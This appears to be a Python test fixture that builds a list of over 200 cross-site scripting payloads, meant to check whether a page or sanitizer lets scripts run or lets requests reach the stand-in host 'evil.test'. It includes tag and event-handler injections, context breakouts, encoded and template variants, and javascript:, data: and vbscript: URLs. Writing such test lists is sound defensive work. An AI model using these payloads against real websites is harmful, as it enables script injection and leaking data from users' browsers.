"""What hostile pages put into their texts: over 200 ways to run a script or to call home, and what hears them.

A payload that works calls `fire()` or asks for something from `evil.test`.
"""

from urllib.parse import quote

HOME = "evil.test"
HEARING = "window.fired = 0; window.fire = () => { window.fired += 1; }; window.alert = window.fire;"
"""A script for every page, before all others: it counts the payloads that ran."""

_CALLS = ("fire()", "fire``", "window['fi'+'re']()", "alert(1)", "eval(atob('ZmlyZSgp'))")
_MARKUP = (
    "<script>{js}</script>",
    "<SCRIPT>{js}</SCRIPT >",
    "<script/x>{js}</script>",
    "<scr<script>ipt>{js}</script>",
    "<img src=x onerror={js}>",
    "<img src=x onerror='{js}' alt=`>",
    "<IMG/SRC=x/ONERROR={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}//",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><set onbegin={js} attributeName=x>",
    "<body onload={js}>",
    "<details open ontoggle={js}>x</details>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<a autofocus tabindex=1 onfocus={js}>x</a>",
    "<video><source onerror={js}></video>",
    "<audio src=x onerror={js}>",
    "<object data=x: onerror={js}>",
    "<iframe srcdoc='<script>parent.{js}</script>'>",
    "<iframe onload={js}>",
    "<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart={js}>x</b>",
    "<marquee onstart={js}>x</marquee>",
)
_BREAKS = (
    '">',
    "'>",
    "`>",
    "-->",
    "]]>",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "</template>",
    "</noscript>",
    "</svg>",
    "</select>",
    "</option></select>",
    "</a></li></table>",
    "<!--><",
    "\" x='",
    '\\">',
    "</ins></del>",
    "\u2028",
    "\u202e",
    "\x00",
    "<![CDATA[",
)
_ATTRIBUTES = (
    '" onmouseover="{js}" x="',
    '" autofocus onfocus="{js}" x="',
    "' autofocus onfocus='{js}' x='",
    "\" style='animation:x' onanimationstart={js} x=\"",
    " autofocus onfocus={js} ",
)
_OTHER = (
    '";{js};"',
    "';{js};'",
    "`;{js};`",
    "${{{js}}}",
    "{{{{ {js} }}}}",
    "{{% print {js} %}}",
    "</script><script>{js}//",
    "\\u003cscript>{js}\\u003c/script>",
    "&lt;img src=x onerror={js}&gt;",
    "&#60;img src=x onerror={js}&#62;",
    "%3Cimg src=x onerror={js}%3E",
    "＜img src=x onerror={js}＞",
    "javascript:{js}",
    "data:text/html,<script>{js}</script>",
)
_HOME = (
    f"<img src=http://{HOME}/a.png>",
    f"<link rel=stylesheet href=http://{HOME}/a.css>",
    f"<style>@import 'http://{HOME}/b.css';</style>",
    f"<script src=http://{HOME}/a.js></script>",
    f"<iframe src=http://{HOME}/></iframe>",
    f"<meta http-equiv=refresh content='0;url=http://{HOME}/'>",
    f"<base href=http://{HOME}/><img src=a>",
    f"<div style='background:url(http://{HOME}/c.png)'>x</div>",
    f"<svg><image href=http://{HOME}/d.png /></svg>",
    f"<video poster=http://{HOME}/e.png></video>",
)

PAYLOADS = (
    *(form.format(js=js) for form in _MARKUP for js in _CALLS),
    *(f"{before}<img src=x onerror=fire()>" for before in _BREAKS),
    *(form.format(js=js) for form in _ATTRIBUTES for js in _CALLS[:3]),
    *(form.format(js=js) for form in _OTHER for js in _CALLS[:3]),
    *_HOME,
)

ADDRESSES = (
    "javascript:fire()",
    "JaVaScRiPt:fire()",
    " javascript:fire()",
    "java\tscript:fire()",
    "\x01javascript:fire()",
    "data:text/html,<script>opener.fire()</script>",
    "vbscript:fire()",
    'https:" onfocus=fire() autofocus x="',
    "https://a.cn/'onfocus=fire() autofocus='",
    "https://a.cn/?" + quote("<script>fire()</script>"),
)
"""Addresses of attachments that are none, or break out of where they stand."""
